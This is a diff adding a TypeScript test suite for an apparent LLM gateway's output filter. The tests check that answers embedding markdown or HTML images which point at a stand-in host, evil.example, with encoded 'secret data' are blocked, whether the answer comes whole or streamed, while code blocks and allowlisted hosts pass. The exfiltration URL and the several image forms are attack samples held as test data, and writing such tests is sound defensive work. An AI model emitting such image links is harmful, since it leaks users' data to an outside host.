@@ -1,0 +1,78 @@
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import {
+  chunk,
+  completion,
+  enforced,
+  type FakeSystem,
+  fakeSystem,
+  sendEvents,
+  sendJson,
+  type TestServer,
+  testServer,
+} from './harness.ts';
+
+const AT = 'https://evil.example/p?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ';
+const WORDS = 'Here is what you asked for, with a few words around it so that windows end in odd places.\n\n';
+
+describe('links in answers, whole and streamed', () => {
+  let fake: FakeSystem;
+  let server: TestServer;
+  let key: string;
+  before(async () => {
+    fake = await fakeSystem();
+    server = await testServer({
+      systems: { main: enforced(fake), strict: enforced(fake, { links: { hosts: ['docs.example.com'] } }) },
+    });
+    key = await server.key(['main', 'strict']);
+  });
+  after(async () => {
+    await server.stop();
+    await fake.close();
+  });
+
+  /** Whether an answer goes out, whole and in pieces of each of these sizes. */
+  const passes = async (content: string, system = 'main'): Promise<boolean[]> => {
+    const body = { model: system, messages: [{ role: 'user', content: 'hello' }] };
+    fake.answer = (_req, res) => sendJson(res, completion(content));
+    const whole = await server.post('/v1/chat/completions', key, body);
+    await whole.text();
+    const all = [whole.status === 200];
+    for (const size of [1, 7, 40, 400]) {
+      const pieces: string[] = [];
+      for (let at = 0; at < content.length; at += size)
+        pieces.push(chunk({ content: content.slice(at, at + size) }));
+      fake.answer = (_req, res) => sendEvents(res, [...pieces, chunk({}, 0, 'stop'), 'data: [DONE]\n\n']);
+      const streamed = await (
+        await server.post('/v1/chat/completions', key, { ...body, stream: true })
+      ).text();
+      all.push(!streamed.includes('output-denied'));
+      if (!all.at(-1)) assert.ok(!streamed.includes(AT), 'the link itself stayed here');
+    }
+    return all;
+  };
+  const ALL = [true, true, true, true, true];
+  const NONE = ALL.map(() => false);
+
+  it('an image that carries data out does not pass, wherever it stands', async () => {
+    for (const before of ['', WORDS, WORDS.repeat(3)]) {
+      assert.deepEqual(await passes(`${before}![x](${AT})`), NONE);
+      assert.deepEqual(await passes(`${before}![x][r]\n\n${WORDS}[r]: ${AT}\n`), NONE);
+      assert.deepEqual(await passes(`${before}<img srcset="${AT} 1x">\n${WORDS}`), NONE);
+    }
+  });
+
+  it('code that shows one passes, and what comes after the code does not', async () => {
+    const code = `${WORDS}\`\`\`html\n${'<p>a line of code</p>\n'.repeat(12)}<img src="${AT}">\n\`\`\`\n\n${WORDS}`;
+    assert.deepEqual(await passes(code), ALL);
+    assert.deepEqual(await passes(`${code}![x](${AT})\n`), NONE);
+    const list = `- \`\`\`\n  code\n  \`\`\`\n\n${WORDS}![x](${AT})\n`;
+    assert.deepEqual(await passes(list), NONE);
+  });
+
+  it('a system with hosts of its own loads from these only', async () => {
+    assert.deepEqual(await passes(`${WORDS}![x](https://docs.example.com/a.png)`, 'strict'), ALL);
+    assert.deepEqual(await passes(`${WORDS}![x](https://other.example/a.png)`, 'strict'), NONE);
+    assert.deepEqual(await passes(`${WORDS}[x](https://other.example/a)`, 'strict'), ALL);
+  });
+});
